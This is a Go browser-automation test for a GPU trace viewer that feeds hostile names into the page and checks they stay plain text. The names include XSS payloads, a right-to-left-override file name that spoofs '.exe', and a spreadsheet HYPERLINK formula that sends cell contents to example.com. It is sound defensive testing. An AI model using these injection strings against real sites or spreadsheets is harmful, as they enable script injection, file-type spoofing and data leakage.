package e2e

import (
	"encoding/json"
	"fmt"
	"strings"
	"testing"

	"github.com/chromedp/chromedp"
)

// Names as somebody would write them who wants this page to do something else than show them.
var hostileNames = []string{
	`<img src=x onerror="window.pwned=1">`,
	`</td></table><script>window.pwned=1</script>`,
	`"><svg onload=window.pwned=1>`,
	`javascript:window.pwned=1`,
	`{{constructor.constructor('window.pwned=1')()}}`,
	"gpj.\u202egnp.exe",
	`=HYPERLINK("http://example.com/?"&A1,"open")`,
	strings.Repeat("very", 2000) + "long",
}

// hostileTrace uses them wherever a trace has text.
func hostileTrace(t *testing.T) []byte {
	t.Helper()
	var b strings.Builder
	text := func(s string) string {
		raw, err := json.Marshal(s)
		if err != nil {
			t.Fatal(err)
		}
		return string(raw)
	}
	fmt.Fprintf(&b, `{"deviceProperties":[{"id":0,"name":%s}],"distributedInfo":{"rank":0,"world_size":2,"backend":%s},"traceName":%s,"traceEvents":[`,
		text(hostileNames[0]), text(hostileNames[0]), text(hostileNames[1]))
	for i, name := range hostileNames {
		n := text(name)
		ts := 1000 * i
		fmt.Fprintf(&b, `{"ph":"M","name":"thread_name","pid":1,"tid":%d,"args":{"name":%s}},`, i, n)
		fmt.Fprintf(&b, `{"ph":"X","cat":"user_annotation","name":%s,"pid":1,"tid":%d,"ts":%d,"dur":900},`, n, i, ts)
		// The name of a vLLM step with sizes, with more in it than vLLM would write.
		step := text(fmt.Sprintf("execute_context_0(0)_generation_%d(%d)", i+1, i+1))
		fmt.Fprintf(&b, `{"ph":"X","cat":"user_annotation","name":%s,"pid":1,"tid":99,"ts":%d,"dur":800},`, step, ts)
		fmt.Fprintf(&b, `{"ph":"X","cat":"cuda_runtime","name":"cudaLaunchKernel","pid":1,"tid":99,"ts":%d,"dur":5,"args":{"correlation":%d}},`, ts+10, i+1)
		fmt.Fprintf(&b, `{"ph":"X","cat":"kernel","name":%s,"pid":0,"tid":7,"ts":%d,"dur":20,"args":{"device":0,"stream":7,"correlation":%d}},`, n, ts+100, i+1)
		fmt.Fprintf(&b, `{"ph":"X","cat":%s,"name":"op","pid":1,"tid":1,"ts":%d,"dur":1},`, n, ts)
	}
	b.WriteString(`{"ph":"i","name":"end","pid":1,"tid":1,"ts":9000,"s":"g"}]}`)
	return []byte(b.String())
}

// unharmed fails the test when a name became more than text.
func unharmed(t *testing.T, p *tab) {
	t.Helper()
	if eval[bool](p, `"pwned" in window || (window.e2e?.alerts ?? 0) > 0`) {
		t.Error("a name ran as a script")
	}
	if n := eval[int](p, `document.querySelectorAll("img, body script:not([type='application/json']), svg[onload], iframe").length`); n > 0 {
		t.Errorf("%d elements were made of a name", n)
	}
	if n := eval[int](p, `[...document.querySelectorAll("a[href]")].filter((a) => !/^https?:$/.test(a.protocol) || a.origin !== location.origin).length`); n > 0 {
		t.Errorf("%d links lead elsewhere", n)
	}
}

func TestHostileNames(t *testing.T) {
	srv := newServer(t)
	fileName := `<img src=x onerror=window.pwned=1>.json`
	path := written(t, fileName, hostileTrace(t))
	p := open(t, srv, "/trace")
	p.drop(path)
	p.done()
	sameAsNative(t, p, 0, path)
	unharmed(t, p)
	if got := p.fact("File"); got != fileName {
		t.Errorf("file: %q", got)
	}
	for _, block := range []string{"phases", "kernels"} {
		tb := p.table(block)
		for _, name := range hostileNames {
			found, name := false, strings.ReplaceAll(name, "\u202e", "\uFFFD")
			for _, r := range tb.rows {
				found = found || r.Cells["name"].Text == name || r.Cells["name"].Title == name
			}
			if !found {
				t.Errorf("%s: %.60q is not shown as it is", block, name)
			}
		}
	}
	// No name turns round the text around it, nor itself into another.
	if got := eval[[]string](p, `(() => {
		const bad = /[\u200e\u200f\u202a-\u202e\u2066\u2067\u2069]/, found = [];
		for (const e of document.querySelectorAll("main, main *")) {
			for (const n of e.childNodes) if (n.nodeType === Node.TEXT_NODE && bad.test(n.data)) found.push(e.tagName + " " + n.data);
			if (bad.test(e.title)) found.push("title " + e.title);
		}
		return found;
	})()`); len(got) > 0 {
		t.Errorf("characters that turn text round are on the page: %q", got)
	}
	// Every cell once in focus: the inspect line and unfolded names take the names too.
	eval[bool](p, `(() => { for (const td of document.querySelectorAll("tbody [data-key]")) td.focus(); return true; })()`)
	// Tooltips of both charts.
	for _, chart := range []string{"#chart-steps", "#chart-shapes"} {
		eval[bool](p, `(document.querySelector("`+chart+`").scrollIntoView({ block: "center" }), true)`)
		box := eval[[4]float64](p, `(() => { const r = document.querySelector("`+chart+`").getBoundingClientRect(); return [r.x, r.y, r.width, r.height]; })()`)
		for x := box[0] + 20; x < box[0]+box[2]; x += 25 {
			p.do(chromedp.MouseEvent(chromedp.MouseMoved, x, box[1]+box[3]*0.7))
		}
	}
	unharmed(t, p)
	p.shot("hostile")

	t.Run("csv", func(t *testing.T) {
		file, name := p.download(func() { p.click(`#kernels [data-export=csv]`) })
		if strings.ContainsAny(name, `<>"/\`) {
			t.Errorf("the export's name is %q", name)
		}
		for _, fields := range readCSV(t, file) {
			for _, f := range fields {
				if strings.HasPrefix(f, "=") {
					t.Errorf("a spreadsheet would run %.60q", f)
				}
			}
		}
	})
	t.Run("kept", func(t *testing.T) {
		eval[bool](p, `(() => { const f = document.querySelector("#keep-form"); f.label.value = `+quote(hostileNames[1])+`; f.note.value = `+quote(hostileNames[2])+`; return true; })()`)
		p.click("#keep-form [type=submit]")
		p.until(`!document.querySelector("#keep-result").hidden`)
		q := open(t, srv, "/traces")
		unharmed(t, q)
		row := q.text("table.kept tbody tr")
		for _, want := range []string{fileName, hostileNames[1], hostileNames[2]} {
			if !strings.Contains(row, want) {
				t.Errorf("the list does not show %q as it is: %s", want, row)
			}
		}
		q.click("table.kept tbody tr th a")
		q.until(`document.querySelector("#trace")?.dataset.state === "done"`)
		unharmed(t, q)
		if got := q.fact("File"); got != fileName {
			t.Errorf("the kept trace calls itself %q", got)
		}
	})
}
